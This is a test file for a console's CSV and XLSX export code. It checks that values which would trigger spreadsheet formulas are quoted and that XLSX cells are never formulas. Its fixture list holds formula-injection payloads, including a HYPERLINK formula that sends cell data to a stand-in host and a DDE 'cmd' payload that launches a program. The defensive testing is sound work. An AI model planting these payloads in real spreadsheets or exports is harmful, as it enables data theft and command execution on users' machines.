// Formula injection (issue 13, item 4): the console's own CSV and XLSX exports quote text that a
// spreadsheet would run as a formula, and XLSX text cells are inline strings, never formulas.
import { describe, expect, it } from "vitest";
import { neutralise, sheetXml, toCsv } from "../../src/console/export";

const ATTACKS = ['=HYPERLINK("http://x/?d="&A1,"y")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"];

describe("formula injection", () => {
  it("neutralise quotes formula triggers and leaves the rest", () => {
    for (const a of ATTACKS) expect(neutralise(a)).toBe(`'${a}`);
    expect(neutralise("张三")).toBe("张三");
    expect(neutralise(-5)).toBe(-5);
    expect(neutralise(null)).toBeNull();
    expect(neutralise("'=x")).toBe("'=x");
  });

  it("CSV cells start with a quote, numbers stay numbers", () => {
    const csv = toCsv(["借款人", "金额"], [['=HYPERLINK("http://x/?d="&A1,"y")', -12.5], ["-2+3", 1], ["@SUM(1+1)", 2], ["+cmd|' /C calc'!A0", 3]]);
    const lines = csv.replace(/^\uFEFF/, "").split("\r\n");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://x/?d=""&A1,""y"")",-12.5`);
    expect(lines[2]).toBe("'-2+3,1");
    expect(lines[3]).toBe("'@SUM(1+1),2");
    expect(lines[4]).toBe("'+cmd|' /C calc'!A0,3");
    for (const line of lines.slice(1, -1)) expect(line).toMatch(/^"?'/);
  });

  it("XLSX cells are inline strings with the quote, never formulas", () => {
    const xml = sheetXml(["借款人"], ATTACKS.map((a) => [a]));
    expect(xml).not.toContain("<f>");
    const texts = [...xml.matchAll(/<c r="A(\d+)" t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t>/g)].map((m) => m[2]);
    expect(texts.slice(1)).toEqual(ATTACKS.map((a) => `'${a}`.replace(/&/g, "&amp;").replace(/"/g, "&quot;")));
  });
});
